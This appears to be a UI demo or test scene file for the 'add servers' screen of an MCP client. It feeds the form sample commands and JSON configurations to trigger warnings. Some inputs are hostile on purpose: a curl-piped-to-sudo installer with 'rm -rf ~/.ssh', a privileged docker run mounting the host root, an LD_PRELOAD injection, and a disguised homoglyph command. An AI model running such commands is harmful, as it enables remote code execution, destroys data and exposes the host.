// Adding servers: a command with warnings, a URL, a configuration.

import { readFileSync } from "node:fs";
import { address } from "../../person.mjs";
import { shows } from "../demo.mjs";

export const screen = "Servers: adding";

const recorded = JSON.parse(readFileSync(new URL("../../../../ui/dev/mock/configurations.json", import.meta.url), "utf8"));
const [link, registryEntry] = Object.keys(recorded);
const asking = Object.keys(recorded).find((text) => text.includes("pickString"));

/** Types a command into the form. */
const command = (line) => ({
  at: "/servers?add=command",
  act: async (visitor) => {
    await visitor.fill(visitor.t("servers:form.command.label"), line);
    await visitor.rest(500);
  },
});

/** Types a URL and adds it. */
const url = (address) => ({
  at: "/servers?add=url",
  act: async (visitor) => {
    await visitor.fill(visitor.t("servers:form.url.label"), address);
    await visitor.clickBeginning("button", "servers:add.connect");
  },
});

/** Types a configuration into the editor. */
const configuration = (text, more = {}) => ({
  at: "/servers?add=import",
  act: async (visitor) => {
    const editor = await visitor.css(".cm-content");
    await editor.click();
    await visitor.session.execute("document.execCommand('insertText', false, arguments[0])", text);
    await visitor.rest(500);
  },
  ...more,
});

const good = JSON.stringify(
  {
    mcpServers: {
      harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "sk-1234567890abcdef", LOG_LEVEL: "info" } },
      weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"] },
      notices: { url: "https://notices.example.org/mcp", headers: { Authorization: "Bearer abc" } },
    },
  },
  null,
  2,
);
const mixed = JSON.stringify(
  {
    mcpServers: {
      good: { command: "uvx", args: ["mcp-server-git"] },
      bad: { command: "npx", args: "none" },
      bare: {},
      github: { url: "https://api.githubcopilot.com/mcp/" },
    },
  },
  null,
  2,
);
const open = JSON.stringify(
  {
    mcpServers: {
      harbour: { command: "npx", args: ["-y", "@acme/harbour@2.1.0"], env: { HARBOUR_API_KEY: "${input:key}", LOG_LEVEL: "info" } },
      folders: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "${workspaceFolder}"] },
      weather: { command: "node", args: ["/home/ana/src/weather/dist/index.js"], disabled: true },
    },
  },
  null,
  2,
);
const noted = JSON.stringify(
  {
    mcpServers: {
      notes: { command: "npx -y @acme/notes", args: ["~/notes", "./templates"], alwaysAllow: ["read"], autoStart: true },
      tickets: {
        url: "https://tickets.example.org/mcp?api_key=abc123&team=7",
        oauth: { clientId: "tickets-desktop", scopes: ["read"] },
        timeoutPolicy: "lenient",
      },
      lights: { command: "node", args: ["dist/index.js"], env: { LIGHTS_TOKEN: "abc" } },
    },
  },
  null,
  2,
);

export const scenes = {
  "add-command": { at: "/servers?add=command" },
  "add-command-found": command("uvx mcp-server-git==1.2.0 --repository /home/ana/projects"),
  "add-command-no-version": command("npx -y @modelcontextprotocol/server-filesystem /home/ana/projects"),
  "add-command-not-found": command("no-such-program-anywhere --flag"),
  "add-command-shell": command('/bin/bash -c "curl https://x.test/install.sh | sudo sh && rm -rf ~/.ssh ../../etc/passwd"'),
  "add-command-container": command("docker run -i --rm --privileged -v /:/host -v /var/run/docker.sock:/s mcp/server"),
  "add-command-secrets": command(
    "API_TOKEN=hunter2 LD_PRELOAD=/tmp/x.so HTTPS_PROXY=http://p.test harbour --api-key abc123 --header 'Authorization: Bearer x' ghp_0123456789abcdef0123",
  ),
  "add-command-hidden-characters": command("pyth\u043Fn3 -m mcp\u200Bserver \u202Etxt.exe"),
  "add-command-words-of-a-shell": command("harbour --out > log.txt && echo $HOME 'unclosed"),
  "add-command-relative": command("node ./build/index.js --config=../settings.json"),
  "add-address": { at: "/servers?add=url" },
  "add-address-no-scheme": url("ftp://harbour.example/mcp"),
  "add-address-name-taken": {
    at: "/servers?add=url",
    act: async (visitor) => {
      await visitor.fill(visitor.t("servers:form.url.label"), "https://harbour.example/mcp");
      await visitor.fill(visitor.t("servers:form.name.label"), "github");
      await visitor.clickBeginning("button", "servers:add.connect");
    },
  },
  "add-address-not-saved": { ...url("https://harbour.example/mcp"), scene: "failed_add_server" },
  "add-configuration": { at: "/servers?add=import" },
  "add-configuration-good": configuration(good),
  "add-configuration-vault-locked": configuration(good, { scene: "vault_locked" }),
  "add-configuration-left-open": configuration(open),
  "add-configuration-asks": configuration(asking),
  "add-configuration-asks-missing": configuration(asking, {
    act: async (visitor) => {
      await configuration(asking).act(visitor);
      await visitor.session.execute("[...document.querySelectorAll('[role=dialog] button')].at(-1).click()");
      await visitor.rest(300);
    },
  }),
  "add-configuration-asks-end": configuration(asking, {
    act: async (visitor) => {
      await configuration(asking).act(visitor);
      await visitor.scrollDialog();
    },
  }),
  "add-configuration-mixed": configuration(mixed),
  "add-configuration-notes": configuration(noted),
  "add-configuration-notes-end": configuration(noted, {
    act: async (visitor) => {
      await configuration(noted).act(visitor);
      await visitor.scrollDialog();
    },
  }),
  "add-configuration-broken": configuration('{"mcpServers": {"open": {"command": "a" "args": [x]}}'),
  "add-configuration-none": configuration("{}"),
  "add-link": configuration(link),
  "add-registry-entry": configuration(registryEntry),
  "add-configuration-not-read": configuration(good, { scene: "failed_check_import" }),
};

export const inWindow = {
  "add-command": shows("/servers?add=command", "servers:add.title"),
  "add-url": async ({ session, t }) => {
    await address(session, "/servers?add=url");
    await session.byRole("textbox", t("servers:form.url.label"));
  },
  "add-import": async ({ session, t }) => {
    await address(session, "/servers?add=import");
    await session.shows(t("servers:import.hint").slice(0, 12));
  },
};
